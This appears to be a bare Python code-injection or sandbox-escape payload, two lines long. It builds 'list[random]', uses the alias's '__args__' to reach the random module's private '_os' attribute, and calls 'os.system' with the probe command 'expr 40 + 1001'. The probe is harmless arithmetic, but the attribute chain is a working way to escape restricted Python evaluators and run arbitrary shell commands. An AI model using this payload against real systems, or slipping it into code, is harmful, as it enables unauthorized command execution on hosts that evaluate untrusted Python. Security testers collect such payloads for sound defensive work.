import random
list[random].__args__[0]._os.system("expr 40 + 1001")
